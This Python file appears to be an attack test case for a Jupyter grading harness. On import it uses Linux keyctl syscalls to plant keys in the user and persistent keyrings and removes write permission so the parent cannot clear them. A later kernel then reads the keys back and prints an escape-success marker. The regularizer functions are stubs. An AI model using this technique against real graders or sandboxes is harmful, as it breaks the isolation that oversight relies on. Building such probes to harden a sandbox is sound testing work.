"""Attack: leave keys that survive the warm parent's keyring clearing, for the next kernel (see README.md)."""

import ctypes
import os
import sys

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
NOTE = "dlcv-note-leaves_keys"
SYS_KEYCTL, SYS_ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}.get(os.uname().machine, (None, None))
KEYCTL_GET_KEYRING_ID, KEYCTL_SETPERM, KEYCTL_SEARCH, KEYCTL_READ, KEYCTL_GET_PERSISTENT = 0, 5, 10, 11, 22
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING = -3, -4
# possessor: view, read, search, link, setattr (no write); user: view, read, search
NO_WRITE = 0x3B0B0000
libc = ctypes.CDLL(None, use_errno=True)


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _say(text):
    print(f"[kernel] {text}", flush=True)


def _keyctl(*args):
    result = libc.syscall(SYS_KEYCTL, *args)
    return result, (os.strerror(ctypes.get_errno()) if result < 0 else "ok")


def _persistent():
    return _keyctl(KEYCTL_GET_PERSISTENT, -1, KEY_SPEC_SESSION_KEYRING)[0]


def _leave_keys():
    # 1. the user keyring, which the parent clears (KEYCTL_CLEAR needs write permission on it): take write away
    user, _ = _keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1)
    key = libc.syscall(SYS_ADD_KEY, b"user", f"{NOTE}-user".encode(), b"in the user keyring", 19, user)
    _say(f"add_key to the user keyring: {key}; setperm without write: {_keyctl(KEYCTL_SETPERM, user, NO_WRITE)}")
    # 2. the user namespace's persistent keyring, which the parent does not clear at all
    persistent = _persistent()
    if persistent > 0:
        key = libc.syscall(SYS_ADD_KEY, b"user", f"{NOTE}-persistent".encode(), b"in the persistent keyring",
                           25, persistent)
        _say(f"add_key to the persistent keyring {persistent}: {key}")
    else:
        _say(f"KEYCTL_GET_PERSISTENT: {os.strerror(ctypes.get_errno())}")


def _report():
    buffer = ctypes.create_string_buffer(128)
    for where, keyring in (("user", KEY_SPEC_USER_KEYRING), ("persistent", _persistent())):
        if keyring in (-1, 0):
            continue
        found, status = _keyctl(KEYCTL_SEARCH, keyring, b"user", f"{NOTE}-{where}".encode(), 0)
        if found > 0:
            size, status = _keyctl(KEYCTL_READ, found, buffer, 128)
            content = buffer.raw[:size] if size > 0 else f"(read: {status})"
            _say(f"{MARK} the dead kernel's key {found} in the {where} keyring is here: {content!r}")
        else:
            _say(f"{where} keyring: {status}")


if "ipykernel" in sys.modules and SYS_KEYCTL:
    if os.environ.pop("DLCV_REPORT_ONLY", None):
        _report()
    else:
        _leave_keys()
        _say("ending this kernel: the grader starts the next one")
        os._exit(1)
